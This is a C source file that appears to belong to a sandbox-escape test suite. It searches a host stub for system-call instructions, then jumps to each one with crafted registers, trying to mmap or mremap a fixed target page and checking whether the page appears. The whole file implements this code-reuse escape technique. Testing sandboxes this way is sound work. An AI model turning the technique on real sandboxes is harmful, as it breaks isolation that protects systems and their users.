/* Host calls by the stub's own call instructions. */
#include "attacks.h"

#define FDS_MAX 12

struct call {
	unsigned long site, nr, args[6];
};

/* The code behind a site returns to where this stack says, or does not return. */
unsigned long jump_stack[JUMP_STACK] __attribute__((aligned(64)));

static void landed(void)
{
	for (;;)
		pause();
}

/* Jumps to a site with the registers of a call. It never comes back. */
static void *jump(void *argument)
{
	struct call *c = argument;

	catch_faults();
	for (int i = 0; i < JUMP_STACK; i++)
		jump_stack[i] = (unsigned long)landed;
	register unsigned long r10 __asm__("r10") = c->args[3];
	register unsigned long r8 __asm__("r8") = c->args[4];
	register unsigned long r9 __asm__("r9") = c->args[5];
	register unsigned long site __asm__("rbx") = c->site;
	__asm__ volatile("mov %[stack], %%rsp\n\tjmp *%%rbx"
			 :
			 : "a"(c->nr), "D"(c->args[0]), "S"(c->args[1]), "d"(c->args[2]), "r"(r10),
			   "r"(r8), "r"(r9), "r"(site), [stack] "r"(&jump_stack[JUMP_STACK / 2])
			 : "memory");
	__builtin_unreachable();
}

/* Jumps in a thread; another looks whether the page came to be. */
static int jump_and_look(void *call)
{
	pthread_t thread;

	catch_faults();
	pthread_create(&thread, NULL, jump, call);
	for (int i = 0; i < LOOKS; i++) {
		usleep(2000);
		if (is_readable(TARGET))
			return 1;
	}
	return 0;
}

static int everywhere(struct call call)
{
	for (int s = 0; s < site_count; s++) {
		call.site = sites[s];
		if (in_child(jump_and_look, &call)) {
			snprintf(found, sizeof(found), "call %lu by the instruction at %lx", call.nr,
				 sites[s]);
			return 1;
		}
	}
	snprintf(found, sizeof(found), "%d foreign pages, %d call instructions", page_count,
		 site_count);
	return 0;
}

int jump_mmap_anonymous(void)
{
	return everywhere((struct call){
		.nr = SYS_mmap,
		.args = { TARGET, PAGE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1UL, 0 } });
}

int jump_mmap_memory(void)
{
	for (unsigned long fd = 0; fd < FDS_MAX; fd++)
		if (everywhere((struct call){ .nr = SYS_mmap,
					      .args = { TARGET, PAGE, PROT_READ | PROT_WRITE,
							MAP_SHARED | MAP_FIXED, fd, 0 } }))
			return 1;
	return 0;
}

int jump_mremap(void)
{
	unsigned long at = (unsigned long)mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
					       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

	return everywhere((struct call){
		.nr = SYS_mremap,
		.args = { at, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, TARGET, 0 } });
}
